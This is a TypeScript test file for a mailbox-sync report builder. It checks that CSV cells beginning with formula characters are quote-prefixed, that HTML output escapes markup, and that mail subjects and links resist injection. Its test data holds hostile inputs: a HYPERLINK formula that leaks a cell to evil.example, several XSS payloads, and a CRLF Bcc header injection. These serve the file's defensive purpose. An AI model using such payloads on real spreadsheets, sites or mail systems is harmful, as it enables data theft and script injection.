import fc from 'fast-check';
import Papa from 'papaparse';
import { buildReport, toCsv, type BatchReportInput, type BuiltReport } from '../../shared/report';
import { CodedError } from '../../shared/domain/errors';
import { knownBatch } from './fixture';

/** Cells Excel or LibreOffice would evaluate as a formula (OWASP CSV injection). */
const FORMULA_START = /^[=+\-@\t\r\n\0]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
  '+1',
  '-2',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  'say "hi", then "bye"',
  'a,b,c',
  'line one\nline two\r\nline three',
  'Grüße – 日本語 – ✉ – Ελληνικά',
  ' padded ',
];

/** What Excel must show for a hostile value: the text itself, with a quote in front if it could run. */
function neutralised(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}

function hostileBatch(): BatchReportInput {
  const input = knownBatch();
  input.mailboxes = HOSTILE.map((value, i) => ({
    emailAddress: value,
    status: i % 2 ? 'Failed' : 'Synced',
    itemsSynced: i,
    itemsSkipped: 1,
    bytesSynced: i * 1000,
    error: i % 2 ? { code: value, message: value } : null,
  }));
  input.skippedItems = HOSTILE.map((value) => ({
    emailAddress: value,
    folder: value,
    date: '2025-01-01T00:00:00Z',
    subject: value,
    kind: value,
    sizeBytes: 10,
    reason: value,
  }));
  return input;
}

function parseCsv(report: BuiltReport, name: string): string[][] {
  const buf = report.files.find((f) => f.name === name)!.content;
  expect(buf.subarray(0, 3).toString('hex')).toBe('efbbbf');
  const parsed = Papa.parse<string[]>(buf.toString('utf8').slice(1), { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data.slice(1);
}

describe('CSV files are safe to open in Excel', () => {
  const report = buildReport('final', hostileBatch());

  test('no cell of either CSV starts with a formula character', () => {
    for (const name of ['statistics.csv', 'errors.csv']) {
      const cells = parseCsv(report, name).flat();
      expect(cells.length).toBeGreaterThan(HOSTILE.length * 2);
      expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    }
  });

  test('hostile subjects, folders, addresses and reasons read back as text, quote-prefixed when they could run', () => {
    const skipped = parseCsv(report, 'errors.csv').filter((r) => r[0] === 'SkippedItem');
    expect(skipped.map((r) => [r[1], r[2], r[4], r[5], r[7]])).toEqual(
      HOSTILE.map((v) => Array(5).fill(neutralised(v))),
    );
    const stats = parseCsv(report, 'statistics.csv');
    expect(stats.map((r) => r[0])).toEqual(HOSTILE.map(neutralised));
    // Failed mailboxes carry the hostile error code and message too.
    expect(stats.filter((r) => r[1] === 'Failed').map((r) => [r[11], r[12]])).toEqual(
      HOSTILE.filter((_, i) => i % 2).map((v) => [neutralised(v), neutralised(v)]),
    );
  });

  test('quotes are doubled and fields with commas, quotes, line breaks or edge spaces are quoted', () => {
    const raw = report.files.find((f) => f.name === 'errors.csv')!.content.toString('utf8');
    expect(raw).toContain('"say ""hi"", then ""bye"""');
    expect(raw).toContain('"a,b,c"');
    expect(raw).toContain('"line one\nline two\r\nline three"');
    expect(raw).toContain('" padded "');
    expect(raw).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for refund"")"`);
    expect(raw).toContain(`"'+1"`);
    expect(raw).toContain('Grüße – 日本語 – ✉ – Ελληνικά');
  });

  test('any text at all survives the CSV round trip, neutralised exactly when it could run', () => {
    const leading = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ' ', "'");
    const cell = fc.tuple(leading, fc.string({ unit: 'binary', maxLength: 30 })).map(([a, b]) => a + b);
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 4 }), (row) => {
        const csv = toCsv(
          row.map((_, i) => `c${i}`),
          [row],
        );
        const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true });
        const back = parsed.data[1] ?? [];
        // A row of one empty cell is a blank line, which CSV cannot tell from none (our files never
        // write one: every row starts with an address or a type). Every other row comes back as written.
        if (row.length === 1 && row[0] === '') return back.length === 0;
        return JSON.stringify(back) === JSON.stringify(row.map(neutralised));
      }),
      { numRuns: 500 },
    );
  });
});

describe('the HTML body escapes everything', () => {
  const input = hostileBatch();
  input.batch.name = '</title><script>alert("name")</script>';
  input.skippedItems!.push({
    emailAddress: '"><img src=x onerror=alert(1)>@contoso.com',
    folder: "Inbox' onmouseover='alert(2)",
    date: null,
    subject: '<script>alert("subject")</script>',
    kind: 'message',
    sizeBytes: 1,
    reason: '<b>bold</b> & <a href="javascript:alert(3)">x</a>',
  });
  const report = buildReport('final', input);

  test('hostile subjects, addresses and names appear as text, never as markup', () => {
    expect(report.html).not.toMatch(/<script/i);
    expect(report.html).not.toMatch(/<img/i);
    expect(report.html).not.toMatch(/<b>/i);
    expect(report.html).not.toMatch(/href=["']?javascript:/i);
    expect(report.html).not.toContain("' onmouseover='");
    expect(report.html).toContain('&lt;script&gt;alert(&quot;subject&quot;)&lt;/script&gt;');
    expect(report.html).toContain('&quot;&gt;&lt;img src=x onerror=alert(1)&gt;@contoso.com');
    expect(report.html).toContain('Inbox&#39; onmouseover=&#39;alert(2)');
    expect(report.html).toContain('&lt;/title&gt;&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;');
  });

  test('the document holds only the tags the template writes', () => {
    const tags = new Set(
      [...report.html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)/g)].map((m) => m[1]!.toLowerCase()),
    );
    const allowed = [
      'html',
      'head',
      'meta',
      'title',
      'body',
      'div',
      'h1',
      'h2',
      'p',
      'table',
      'thead',
      'tbody',
    ];
    allowed.push('tr', 'th', 'td', 'span', 'ul', 'li', 'a');
    expect([...tags].filter((t) => !allowed.includes(t))).toEqual([]);
  });

  test('a line break in the batch name cannot add a mail header', () => {
    const crlf = knownBatch();
    crlf.batch.name = 'Sales\r\nBcc: everyone@contoso.com';
    const subject = buildReport('status', crlf).subject;
    expect(subject).not.toMatch(/[\r\n]/);
    expect(subject).toContain('Sales Bcc: everyone@contoso.com');
  });

  test('links other than http(s) are refused before any report is built', () => {
    const bad = knownBatch();
    bad.links = { dashboardUrl: 'javascript:alert(1)' };
    expect(() => buildReport('status', bad)).toThrow(CodedError);
    try {
      buildReport('status', bad);
    } catch (e) {
      expect((e as CodedError).toJSON().problems).toEqual([
        expect.objectContaining({ field: 'links.dashboardUrl' }),
      ]);
    }
  });
});
